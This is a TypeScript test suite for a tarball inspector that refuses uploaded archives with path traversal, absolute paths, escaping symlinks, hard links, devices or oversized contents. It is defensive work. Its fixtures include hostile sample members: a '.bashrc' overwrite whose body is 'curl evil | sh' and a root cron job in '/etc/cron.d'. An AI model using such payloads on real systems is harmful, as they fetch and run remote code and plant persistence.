// The coordinator's look inside an uploaded artifact before indexing it: hand-made tarballs with the members a
// hostile worker would send are refused with the member named; what the packer makes is taken.
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterEach, describe, expect, it } from 'vitest';
import { inspectTarball, TarballRefusedError } from '../../../src-main/core/jobs/tarball-inspect';
import { packReproducibleTar } from '../../../src-main/platform/files/reproducible-tar';
import { handMadeTarGz, type RawMember } from './hand-made-tar';

const dirs: string[] = [];
afterEach(() => {
  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
});
function tempDir(): string {
  const d = mkdtempSync(path.join(tmpdir(), 'gpu-share-inspect-'));
  dirs.push(d);
  return d;
}

function fileOf(bytes: Buffer): string {
  const file = path.join(tempDir(), 'a.tar.gz');
  writeFileSync(file, bytes);
  return file;
}

async function refusal(members: RawMember[] | Buffer, limits?: Parameters<typeof inspectTarball>[1]): Promise<TarballRefusedError> {
  const error = await inspectTarball(fileOf(Buffer.isBuffer(members) ? members : handMadeTarGz(members)), limits).catch((e: unknown) => e);
  expect(error).toBeInstanceOf(TarballRefusedError);
  return error as TarballRefusedError;
}

const ok: RawMember[] = [
  { path: 'adapter/', type: '5' },
  { path: 'adapter/model.safetensors', body: 'weights' },
];

describe('inspectTarball', () => {
  it("refuses a member with '..' in its path, naming it", async () => {
    const error = await refusal([...ok, { path: '../../../home/me/.bashrc', body: 'curl evil | sh' }]);
    expect(error.member).toBe('../../../home/me/.bashrc');
    expect(error.message).toBe(`the artifact's member "../../../home/me/.bashrc" has '..' in its path, which would unpack outside the folder it is unpacked in`);
    expect((await refusal([{ path: 'a/../../x', body: 'x' }])).member).toBe('a/../../x');
    expect((await refusal([{ path: 'a\\..\\..\\x', body: 'x' }])).member).toBe('a\\..\\..\\x');
  });

  it('refuses an absolute path', async () => {
    const error = await refusal([...ok, { path: '/etc/cron.d/job', body: '* * * * * root sh' }]);
    expect(error.member).toBe('/etc/cron.d/job');
    expect(error.message).toContain('has an absolute path');
  });

  it('refuses a symlink to /etc and one that leaves by a relative path', async () => {
    const etc = await refusal([...ok, { path: 'etc', type: '2', linkpath: '/etc' }]);
    expect(etc.member).toBe('etc');
    expect(etc.message).toContain('is a symbolic link to /etc, which leads outside');
    expect((await refusal([{ path: 'a/up', type: '2', linkpath: '../../x' }])).member).toBe('a/up');
  });

  it('resolves links as the file system would: t -> d/s/.. with d/s -> .. is refused', async () => {
    const error = await refusal([{ path: 'd/', type: '5' }, { path: 'd/s', type: '2', linkpath: '..' }, { path: 't', type: '2', linkpath: 'd/s/..' }]);
    expect(error.member).toBe('t');
    // A loop is refused too.
    expect((await refusal([{ path: 'a', type: '2', linkpath: 'b' }, { path: 'b', type: '2', linkpath: 'a' }])).message).toContain('or loops');
  });

  it('refuses a hard link, a device and a FIFO', async () => {
    const hard = await refusal([...ok, { path: 'shadow', type: '1', linkpath: 'adapter/model.safetensors' }]);
    expect(hard.member).toBe('shadow');
    expect(hard.message).toContain('is a hard link');
    expect((await refusal([{ path: 'tty', type: '3' }])).message).toContain('"tty" is a device');
    expect((await refusal([{ path: 'pipe', type: '6' }])).message).toContain('is a FIFO');
  });

  it('refuses a member under a link and the same path twice (what an unpacker would write through)', async () => {
    const under = await refusal([{ path: 'l', type: '2', linkpath: 'adapter' }, ...ok, { path: 'l/x', body: 'x' }]);
    expect(under.member).toBe('l/x');
    expect(under.message).toContain('lies under the symbolic link l');
    const twice = await refusal([{ path: 'x', type: '2', linkpath: 'adapter' }, ...ok, { path: 'x', body: 'x' }]);
    expect(twice.message).toContain('appears twice');
  });

  it('caps the member count and the unpacked size', async () => {
    const many = Array.from({ length: 5 }, (_, i) => ({ path: `f${i}`, body: 'x' }));
    expect((await refusal(many, { maxEntries: 3, maxUnpackedBytes: 1e9 })).member).toBe('f3');
    const big = await refusal([{ path: 'big', body: Buffer.alloc(5000) }], { maxEntries: 10, maxUnpackedBytes: 4096 });
    expect(big.message).toContain('past the');
  });

  it('refuses what is not a .tar.gz at all', async () => {
    expect((await refusal(Buffer.from('plain bytes, not gzip'))).message).toContain('not gzip-compressed');
    expect((await refusal(gzipSync(Buffer.from('gzip, but no tar inside '.repeat(100))))).message).toContain('could not be read as a tar archive');
  });

  it('takes what the packer makes: files, folders, links that stay inside, and an empty output', async () => {
    const root = tempDir();
    mkdirSync(path.join(root, 'ckpt', 'step-100'), { recursive: true });
    writeFileSync(path.join(root, 'ckpt', 'step-100', 'w.bin'), 'weights');
    symlinkSync('step-100', path.join(root, 'ckpt', 'latest'));
    symlinkSync('ckpt/latest/w.bin', path.join(root, 'w.bin'));
    const out = path.join(tempDir(), 'packed.tar.gz');
    await packReproducibleTar(root, out);
    expect(await inspectTarball(out)).toEqual({ entries: 5, unpackedBytes: 7 });
    const empty = path.join(tempDir(), 'empty.tar.gz');
    await packReproducibleTar(tempDir(), empty);
    expect(await inspectTarball(empty)).toEqual({ entries: 0, unpackedBytes: 0 });
    expect(await inspectTarball(fileOf(handMadeTarGz([{ path: './', type: '5' }, ...ok])))).toEqual({ entries: 3, unpackedBytes: 7 });
  });
});
